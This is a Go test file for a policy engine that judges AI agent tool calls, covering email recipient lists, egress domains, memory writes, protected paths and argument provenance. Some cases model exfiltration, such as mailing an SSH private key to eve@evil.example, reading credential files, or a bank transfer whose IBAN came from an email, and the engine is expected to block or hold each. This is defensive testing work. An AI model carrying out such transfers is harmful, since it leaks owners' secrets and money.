package policy_test

import (
	"strings"
	"testing"

	"github.com/writ-dev/writ/authority"
	"github.com/writ-dev/writ/grants"
	"github.com/writ-dev/writ/policy"
)

// TestSurfaceFields: one case per added field of a surface, the
// boundaries, the review and a require rule, judged by the engine; each
// names the invariant it holds.
func TestSurfaceFields(t *testing.T) {
	p := loadPolicy(t, "testdata/surfaces.yaml")
	user := func(id string) policy.SourceFact { return fact(p, id, authority.ChannelUserPrompt, "", "") }
	mail := func(id string) policy.SourceFact {
		return fact(p, id, authority.ChannelToolResult, "", "mcp__mail__get_message")
	}
	whole := func(s policy.SourceFact) policy.SourceFact { s.Whole = true; return s }
	permit, approval, deny := grants.Permit, grants.ApprovalRequired, grants.Deny
	cases := []struct {
		name     string
		r        *policy.Request
		decision grants.Decision
		reason   grants.Reason
		target   string // the grant's target, when checked
		rule     string // a rule or ground the judgement names, when checked
	}{
		{"list: two colleagues inside the trust domain are covered as a set",
			traced(t, "send_email", `{"to":["Carol@Example.com","bob@example.com"],"subject":"notes","body":"see attached"}`,
				origin("/to/0", true, whole(user("s1"))), origin("/to/1", true, whole(user("s1")))),
			permit, grants.ReasonNone, `list:["email:bob@example.com","email:carol@example.com"]`, "allow:mail-inside"},
		{"list: a recipient on the surface's own DNS domain (a subdomain) is inside",
			traced(t, "send_email", `{"to":["bob@example.com","ann@eu.partner.example"]}`,
				origin("/to/0", true, whole(user("s1"))), origin("/to/1", true, whole(user("s1")))),
			permit, grants.ReasonNone, `list:["email:ann@eu.partner.example","email:bob@example.com"]`, ""},
		{"list: one element outside the domains makes the whole call cross, whatever its position",
			traced(t, "send_email", `{"to":["eve@evil.example","bob@example.com"]}`,
				origin("/to/0", true, whole(user("s1"))), origin("/to/1", true, whole(user("s1")))),
			approval, grants.ReasonBoundaryCrossing, "", "boundary:trust_domain"},
		{"list: a denied element denies the call even when it is not first",
			traced(t, "send_email", `{"to":["bob@example.com","x@blocked.example"]}`,
				origin("/to/0", true, whole(user("s1"))), origin("/to/1", true, whole(user("s1")))),
			deny, grants.ReasonDeniedByPolicy, "", "deny:no-blocked"},
		{"list: every element's provenance counts (the second came from a message)",
			traced(t, "send_email", `{"to":["bob@example.com","carol@example.com"]}`,
				origin("/to/0", true, whole(user("s1"))), origin("/to/1", true, whole(mail("s2")))),
			approval, grants.ReasonAuthorityReview, "", "authority:recipients"},
		{"list: a nested value in the list is ambiguous",
			traced(t, "send_email", `{"to":[{"addr":"bob@example.com"}]}`),
			deny, grants.ReasonTargetAmbiguous, "", ""},
		{"list: cc and bcc recipients are targets of the same set",
			traced(t, "send_email", `{"to":"bob@example.com","cc":["carol@example.com"],"bcc":"dan@example.com"}`,
				origin("/to", true, whole(user("s1"))), origin("/cc/0", true, whole(user("s1"))), origin("/bcc", true, whole(user("s1")))),
			permit, grants.ReasonNone, `list:["email:bob@example.com","email:carol@example.com","email:dan@example.com"]`, "allow:mail-inside"},
		{"list: a cc outside the domains makes the call cross",
			traced(t, "send_email", `{"to":"bob@example.com","cc":["eve@evil.example"]}`,
				origin("/to", true, whole(user("s1"))), origin("/cc/0", true, whole(user("s1")))),
			approval, grants.ReasonBoundaryCrossing, "", "boundary:trust_domain"},
		{"list: a denied bcc denies the call",
			traced(t, "send_email", `{"to":"bob@example.com","bcc":"x@blocked.example"}`, origin("/to", true, whole(user("s1")))),
			deny, grants.ReasonDeniedByPolicy, "", "deny:no-blocked"},
		{"list: secret content leaving through a cc outside the domains is refused",
			traced(t, "send_email", `{"to":"bob@example.com","cc":"eve@evil.example","body":"-----BEGIN KEY-----"}`,
				origin("/to", true, whole(user("s1"))), origin("/cc", true, whole(user("s1"))),
				origin("/body", true, fact(p, "s9", authority.ChannelFileRead, "/home/u/.ssh/id_ed25519", ""))),
			deny, grants.ReasonProtectedTransfer, "", "provenance:protected"},
		{"list: cc without to is a missing target",
			traced(t, "send_email", `{"cc":"bob@example.com"}`), deny, grants.ReasonInvalidRequest, "", ""},
		{"list: a single string still works",
			traced(t, "send_email", `{"to":"bob@example.com"}`, origin("/to", true, whole(user("s1")))),
			permit, grants.ReasonNone, "email:bob@example.com", ""},
		{"optional target: left out, the update names no destination",
			traced(t, "update_event", `{"event":"e1","title":"standup"}`),
			approval, grants.ReasonBoundaryCrossing, "", "boundary:class:outbound_send"},
		{"optional target: given, it is judged as a target",
			traced(t, "update_event", `{"event":"e1","invitee":"ann@example.com"}`, origin("/invitee", true, whole(user("s1")))),
			permit, grants.ReasonNone, "email:ann@example.com", "allow:invites"},
		{"optional target: given from a message, the recipient rule holds it",
			traced(t, "update_event", `{"event":"e1","invitee":"ann@example.com"}`, origin("/invitee", true, whole(mail("s2")))),
			approval, grants.ReasonAuthorityReview, "", "authority:recipients"},
		{"review by tool name", traced(t, "mcp__bank__schedule", `{"when":"tomorrow"}`),
			approval, grants.ReasonReviewRequired, "", "review"},
		{"review by surface", traced(t, "mcp__admin__reset", `{}`),
			approval, grants.ReasonReviewRequired, "", "review"},
		{"per-surface egress domain: the bank API may reach the bank",
			traced(t, "bank_fetch", `{"url":"https://api.bank.example/v1/accounts"}`),
			permit, grants.ReasonNone, "url:https://api.bank.example/v1/accounts", ""},
		{"per-surface egress domain: another surface may not",
			traced(t, "WebFetch", `{"url":"https://api.bank.example/v1/accounts"}`),
			approval, grants.ReasonBoundaryCrossing, "", "boundary:egress"},
		{"DNS egress domain: a subdomain is inside",
			traced(t, "WebFetch", `{"url":"https://docs.example.org/a"}`), permit, grants.ReasonNone, "", ""},
		{"DNS egress domain: a look-alike suffix is outside",
			traced(t, "WebFetch", `{"url":"https://badexample.org/a"}`), approval, grants.ReasonBoundaryCrossing, "", "boundary:egress"},
		{"DNS egress domain: the name as a prefix of another is outside",
			traced(t, "WebFetch", `{"url":"https://example.org.evil.example/a"}`), approval, grants.ReasonBoundaryCrossing, "", "boundary:egress"},
		{"memory sink: a remember call is a draft for the owner",
			traced(t, "mcp__mem__remember", `{"text":"the user prefers wire transfers to IBAN X"}`),
			approval, grants.ReasonMemoryWrite, "", "memory:surface:remember"},
		{"memory sink: a history append too, whatever its provenance",
			traced(t, "history_append", `{"text":"ok"}`, origin("/text", true, whole(user("s1")))),
			approval, grants.ReasonMemoryWrite, "", "memory:surface:remember"},
		{"every_arg: an argument of an unknown tool from a message is held",
			traced(t, "mcp__bank__transfer_funds", `{"iban":"DE89370400440532013000","amount":5000,"confirm":true}`,
				origin("/iban", true, whole(mail("s2"))), origin("/amount", true, whole(user("s1")))),
			approval, grants.ReasonAuthorityReview, "", "authority:unknown-transfer"},
		{"every_arg: every argument from the user passes; a boolean needs no source",
			traced(t, "mcp__bank__transfer_funds", `{"iban":"DE89370400440532013000","amount":5000,"confirm":true}`,
				origin("/iban", true, whole(user("s1"))), origin("/amount", true, whole(user("s1")))),
			permit, grants.ReasonNone, "", "authority:unknown-transfer"},
		{"exemption by consequence: a model-made shell command is ordinary work",
			traced(t, "Bash", `{"command":"ls -la"}`), permit, grants.ReasonNone, "", ""},
		{"exemption: the same rule still covers a model-made credential use",
			traced(t, "mcp__vault__use", `{"secret_name":"prod-db"}`), deny, grants.ReasonAuthorityTooLow, "", "authority:consequential"},
		{"exemption by consequence: a model-made read is exempt",
			traced(t, "Read", `{"file_path":"/work/a.go"}`), permit, grants.ReasonNone, "", ""},
		{"path properties: reading a secret path crosses",
			traced(t, "Read", `{"file_path":"/home/u/.ssh/id_ed25519"}`), approval, grants.ReasonBoundaryCrossing, "", "boundary:protected:*/.ssh/*"},
		{"path properties: a memory path may be read freely",
			traced(t, "Read", `{"file_path":"/work/CLAUDE.md"}`), permit, grants.ReasonNone, "", ""},
		{"path properties: a write to a memory path is a draft",
			traced(t, "Write", `{"file_path":"/work/CLAUDE.md","content":"x"}`), approval, grants.ReasonMemoryWrite, "", ""},
		{"path properties: a write-crossing path may be read",
			traced(t, "Read", `{"file_path":"/srv/shared/a.txt"}`), permit, grants.ReasonNone, "", ""},
		{"path properties: and writing it crosses",
			traced(t, "Write", `{"file_path":"/srv/shared/a.txt","content":"x"}`), approval, grants.ReasonBoundaryCrossing, "", "boundary:protected:/srv/shared/*"},
		{"path properties: secret content leaving is refused",
			traced(t, "send_email", `{"to":["bob@evil.example"],"body":"-----BEGIN KEY-----"}`,
				origin("/to/0", true, whole(user("s1"))),
				origin("/body", true, fact(p, "s9", authority.ChannelFileRead, "/home/u/.ssh/id_ed25519", ""))),
			deny, grants.ReasonProtectedTransfer, "", "provenance:protected"},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			j := p.Judge(tc.r, usage{}, now)
			if j.Decision != tc.decision || j.Reason != tc.reason {
				t.Fatalf("got %s %s (missing %q, detail %q, rules %v), want %s %s", j.Decision, j.Reason, j.Missing, j.Detail, j.Rules, tc.decision, tc.reason)
			}
			if tc.target != "" && j.Target != tc.target {
				t.Errorf("target %q, want %q", j.Target, tc.target)
			}
			if tc.rule != "" && !strings.Contains(strings.Join(j.Rules, ","), tc.rule) {
				t.Errorf("rules %v do not name %q", j.Rules, tc.rule)
			}
		})
	}
}

// TestSurfaceFieldsAbsentKeepDecisions: a document that uses none of the
// added fields decides as before: a list in a target field stays
// target_ambiguous, a missing target invalid_request, and a tool result
// that names a path gains nothing from it.
func TestSurfaceFieldsAbsentKeepDecisions(t *testing.T) {
	p := loadPolicy(t, "testdata/provenance.yaml")
	j := p.Judge(traced(t, "send_email", `{"to":["bob@example.com","carol@example.com"]}`), usage{}, now)
	if j.Decision != grants.Deny || j.Reason != grants.ReasonTargetAmbiguous {
		t.Errorf("list without target.list: %s %s, want deny target_ambiguous", j.Decision, j.Reason)
	}
	j = p.Judge(traced(t, "send_email", `{"body":"x"}`), usage{}, now)
	if j.Decision != grants.Deny || j.Reason != grants.ReasonInvalidRequest {
		t.Errorf("missing target without optional: %s %s, want deny invalid_request", j.Decision, j.Reason)
	}
	if got := p.SourceAuthority(authority.ChannelToolResult, "/work/w1/owner/x", "mcp__fs__read"); got != authority.Evidence {
		t.Errorf("a tool result with a path under a surface without result_from: %s, want evidence", got)
	}
}

// TestResultResource: a result registered with the resource it came from
// takes the path and resource levels, and path protection, of a surface
// that declares result_from; the same registration of another tool does
// not.
func TestResultResource(t *testing.T) {
	p := loadPolicy(t, "testdata/surfaces.yaml")
	cases := []struct {
		tool, path string
		want       authority.Level
		protected  bool
	}{
		{"mcp__fs__read_file", "/home/u/bills/march.txt", authority.Instruction, false},
		{"mcp__fs__read_file", "/home/u/bills/../notes/x.txt", authority.Evidence, false},
		{"mcp__fs__read_file", "/home/u/.ssh/id_rsa", authority.Evidence, true},
		{"mcp__fs__read_file", "", authority.Evidence, false},
		{"mcp__mail__get_message", "raw:owner-42", authority.Preference, false},
		{"mcp__mail__get_message", "raw:m-42", authority.Evidence, false},
		{"mcp__other__read", "/home/u/bills/march.txt", authority.Evidence, false},
	}
	for _, tc := range cases {
		if got := p.SourceAuthority(authority.ChannelToolResult, tc.path, tc.tool); got != tc.want {
			t.Errorf("%s %q: level %s, want %s", tc.tool, tc.path, got, tc.want)
		}
		if got := p.ProtectedSource(authority.ChannelToolResult, tc.path, tc.tool); got != tc.protected {
			t.Errorf("%s %q: protected %v, want %v", tc.tool, tc.path, got, tc.protected)
		}
	}
}

// TestListTargetDrift: the spend-time drift check computes a list
// target's set as the judge did, whatever the order of the elements.
func TestListTargetDrift(t *testing.T) {
	p := loadPolicy(t, "testdata/surfaces.yaml")
	a := req(t, "w1", "coordinator", "send_email", `{"to":["bob@example.com","carol@example.com"]}`).Args
	b := req(t, "w1", "coordinator", "send_email", `{"to":["carol@example.com","BOB@example.com","bob@example.com"]}`).Args
	ta, ok1 := p.TargetOf("w1", "coordinator", "send_email", a, "", "")
	tb, ok2 := p.TargetOf("w1", "coordinator", "send_email", b, "", "")
	if !ok1 || !ok2 || ta != tb || ta != `list:["email:bob@example.com","email:carol@example.com"]` {
		t.Errorf("targets %q (%v) and %q (%v)", ta, ok1, tb, ok2)
	}
	c := req(t, "w1", "coordinator", "send_email", `{"to":"carol@example.com","cc":["bob@example.com"]}`).Args
	if tc, ok := p.TargetOf("w1", "coordinator", "send_email", c, "", ""); !ok || tc != ta {
		t.Errorf("to and cc: %q (%v), want %q", tc, ok, ta)
	}
}

// TestSurfaceFieldsInvalid: each added field refuses what it cannot
// mean, naming the field.
func TestSurfaceFieldsInvalid(t *testing.T) {
	base := `{"version":2,"default_ttl":"1m","lanes":{"l":{"surfaces":["*"],"consequences":["*"]}},"surfaces":[%s]%s}`
	sh := `{"id":"sh","tools":["Bash"],"operation":"execute","consequence":"arbitrary_execution","target":{"field":"command","canon":"shell"}}`
	cases := []struct{ surfaces, extra, field string }{
		{`{"id":"m","tools":["m"],"operation":"send","consequence":"outbound_send","target":{"field":"","canon":"email","list":true}}`, "", "surfaces[0].target"},
		{`{"id":"m","tools":["m"],"operation":"x","consequence":"arbitrary_execution","target":{"field":"c","canon":"shell","list":true}}`, "", "surfaces[0].target.list"},
		{`{"id":"m","tools":["m"],"operation":"send","consequence":"outbound_send","target":{"field":"to","canon":"email","also":["cc"]}}`, "", "surfaces[0].target.also"},
		{`{"id":"m","tools":["m"],"operation":"send","consequence":"outbound_send","target":{"field":"to","canon":"email","list":true,"also":["cc","/to"]}}`, "", "surfaces[0].target.also[1]"},
		{sh + `,{"id":"b","tools":["b"],"operation":"fetch","consequence":"remote_query","egress_domains":["*.bank.example"]}`, "", "surfaces[1].egress_domains[0]"},
		{sh + `,{"id":"b","tools":["b"],"operation":"fetch","consequence":"remote_query","recipient_domains":["Bank.example"]}`, "", "surfaces[1].recipient_domains[0]"},
		{sh + `,{"id":"r","tools":["r"],"operation":"read","consequence":"local_read","memory":true}`, "", "surfaces[1].memory"},
		{sh + `,{"id":"r","tools":["r"],"operation":"read","consequence":"local_read","result_from":"args"}`, "", "surfaces[1].result_from"},
		{sh + `,{"id":"r","tools":["r"],"operation":"read","consequence":"local_read","result_from":"target"}`, "", "surfaces[1].result_from"},
		{sh, `,"boundaries":{"egress_domains":["a..b"]}`, "boundaries.egress_domains[0]"},
		{sh, `,"boundaries":{"egress_domains":["com"]}`, "boundaries.egress_domains[0]"},
		{sh, `,"boundaries":{"recipient_domains":["example.com","10.0.0.1"]}`, "boundaries.recipient_domains[1]"},
		{sh, `,"boundaries":{"paths":[{"match":"*/x"}]}`, "boundaries.paths[0]"},
		{sh, `,"boundaries":{"paths":[{"match":"x","secret":true}]}`, "boundaries.paths[0].match"},
		{sh, `,"review":{"surfaces":["nope"]}`, "review.surfaces[0]"},
		{sh, `,"provenance":{"resources":[{"match":"/x/*","authority":"instruction"}]}`, "provenance.resources[0].match"},
		{sh, `,"provenance":{"require":[{"id":"r","every_arg":true,"fields":["a"],"authority":"instruction"}]}`, "provenance.require[0].every_arg"},
		{sh, `,"provenance":{"require":[{"id":"r","except_surfaces":["nope"],"authority":"instruction"}]}`, "provenance.require[0].except_surfaces[0]"},
		{sh, `,"provenance":{"require":[{"id":"r","except_consequences":["nope"],"authority":"instruction"}]}`, "provenance.require[0].except_consequences[0]"},
	}
	for _, tc := range cases {
		doc := strings.Replace(strings.Replace(base, "%s", tc.surfaces, 1), "%s", tc.extra, 1)
		_, err := policy.Parse([]byte(doc))
		if err == nil || !strings.Contains(err.Error(), tc.field+":") {
			t.Errorf("%s: error %v, want one naming %s", tc.field, err, tc.field)
		}
	}
}

// TestRecommendedUtility: under the recommended policy, ordinary
// read-only and workspace-local work whose values trace to nothing (the
// model names its own commands and scratch files) is permitted, while a
// recipient, a payee, an amount or a memory write that traces to nothing
// is held for the owner.
func TestRecommendedUtility(t *testing.T) {
	p := policy.Recommended()
	cases := []struct {
		tool, args string
		reason     grants.Reason // ReasonNone: a permit
	}{
		{"Bash", `{"command":"ls -la"}`, grants.ReasonNone},
		{"Bash", `{"command":"mkdir -p tmp && echo draft > tmp/scratch.txt"}`, grants.ReasonNone},
		{"Write", `{"file_path":"/home/dev/shop/tmp/scratch.md","content":"notes"}`, grants.ReasonNone},
		{"Read", `{"file_path":"/home/dev/shop/.claude/settings.json"}`, grants.ReasonNone},
		{"mcp__filesystem__read_file", `{"path":"/home/dev/shop/README.md"}`, grants.ReasonNone},
		{"mcp__gmail__search_emails", `{"query":"invoice"}`, grants.ReasonNone},
		{"mcp__gmail__send_email", `{"to":["bob@example.com","carol@example.com"],"body":"b"}`, grants.ReasonAuthorityReview},
		{"mcp__gmail__send_email", `{"to":"bob@example.com","cc":["eve@evil.example"],"body":"b"}`, grants.ReasonAuthorityReview},
		{"mcp__cal__create_calendar_event", `{"title":"t","participants":["dana@example.com"]}`, grants.ReasonAuthorityReview},
		{"mcp__cal__create_calendar_event", `{"title":"t"}`, grants.ReasonBoundaryCrossing},
		{"mcp__stripe__create_payment", `{"payee":"acct_1","amount":100}`, grants.ReasonAuthorityReview},
		{"mcp__bank__send_money", `{"recipient":"DE89370400440532013000","amount":98.7}`, grants.ReasonAuthorityReview},
		{"mcp__memory__add_observations", `{"observations":[]}`, grants.ReasonMemoryWrite},
		{"Read", `{"file_path":"/home/dev/.claude/.credentials.json"}`, grants.ReasonBoundaryCrossing},
	}
	for _, tc := range cases {
		r := req(t, "w1", "coordinator", tc.tool, tc.args)
		r.Cwd = "/home/dev/shop"
		j := p.Judge(r, usage{}, now)
		if j.Reason != tc.reason || (tc.reason == grants.ReasonNone) != (j.Decision == grants.Permit) {
			t.Errorf("%s %s: %s %s %q %v", tc.tool, tc.args, j.Decision, j.Reason, j.Missing, j.Rules)
		}
	}
}
